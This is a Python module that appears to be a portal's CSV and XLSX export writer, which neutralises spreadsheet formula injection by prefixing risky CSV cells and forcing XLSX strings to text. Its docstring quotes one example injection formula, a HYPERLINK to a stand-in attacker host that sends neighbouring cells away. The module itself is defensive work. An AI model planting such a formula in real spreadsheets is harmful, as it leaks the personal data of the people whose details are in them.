"""The one writer of every file the portal produces for people to open in a spreadsheet (CSV and XLSX).

Data typed by people — a name, an organisation's name from its passport, an address, an e-mail — must never
become a live formula in the accountant's or the producer's spreadsheet (OWASP «CSV injection»: a cell like
`=HYPERLINK("http://evil.example/?"&C2&D2,"…")` sends the neighbouring cells away when clicked). Decisions:

* **CSV** (`csv_bytes`, `csv_cell`): a text has no types, so a cell starting with `=`, `+`, `-`, `@`, a tab or a
  carriage return gets a leading apostrophe, which Excel and LibreOffice show and never evaluate. This also
  prefixes a phone typed as «+7 …» and a negative number: a CSV for people is read in a spreadsheet, where both
  would be evaluated as arithmetic otherwise. Machines get the JSON twin where there is one (the PROFCARDS
  transfer), which stays raw: JSON is never evaluated.
* **XLSX** (`append`, `text_cell`, `save_xlsx`): a cell has a type, so text is written as a text cell
  (`data_type "s"`) whatever it starts with, with no visible apostrophe — «+7 (474) …» shows as typed, and
  `=HYPERLINK(…)` shows as those characters. Only a string starting with `=` would become a formula in
  openpyxl; `append`/`text_cell` write such strings as text in write-only sheets, and `save_xlsx` turns any
  formula cell of an ordinary workbook back into text before saving (the portal writes no formulas of its own:
  totals are computed and written as values).

Every CSV and XLSX of the portal is written through this module: the PROFCARDS transfer, the card manifests, the
aid payment register, the member export, and the back office's CSV exports (`neutralise_cell` there).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_START = "=+-@\t\r"  # a cell starting with one of these is a formula (or becomes one) in Excel/LibreOffice


def csv_cell(value) -> str:
    """A value as CSV text a spreadsheet can't take for a formula: a leading «'» before = + - @ tab CR."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text and text[0] in FORMULA_START:
        return "'" + text
    return text


safe_cell = csv_cell  # the helper's earlier name (call sites written before this module)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence | Mapping], *, delimiter: str = ";",
              encoding: str = "utf-8") -> bytes:
    """A CSV file for people: the header, then every row (a sequence, or a mapping keyed by the header), each
    cell through `csv_cell`. `encoding="utf-8-sig"` adds the BOM Excel needs to read UTF-8."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
    writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        values = [row.get(h, "") for h in header] if isinstance(row, Mapping) else row
        writer.writerow([csv_cell(v) for v in values])
    return buf.getvalue().encode(encoding)


def text_cell(ws, value, **attrs):
    """A write-only sheet's cell holding `value` as text (never a formula), with optional style attributes."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    for name, attr in attrs.items():
        setattr(cell, name, attr)
    return cell


def append(ws, values: Sequence) -> None:
    """Append a row whose strings are text cells: in a write-only sheet the strings that would be formulas
    become text cells; in an ordinary sheet the appended row's formula cells are turned back into text."""
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(ws, WriteOnlyWorksheet):  # cells are streamed as they are appended: type them now
        ws.append([text_cell(ws, v) if isinstance(v, str) and v[:1] == "=" else v for v in values])
        return
    ws.append(values)
    for cell in ws[ws.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"


def neutralise_workbook(wb) -> None:
    """Turn every formula cell of an ordinary (not write-only) workbook into a text cell with the same text."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def save_xlsx(wb, out=None) -> bytes | None:
    """Save an ordinary workbook with no live formula in it; returns the bytes when `out` is not given."""
    neutralise_workbook(wb)
    if out is not None:
        wb.save(out)
        return None
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
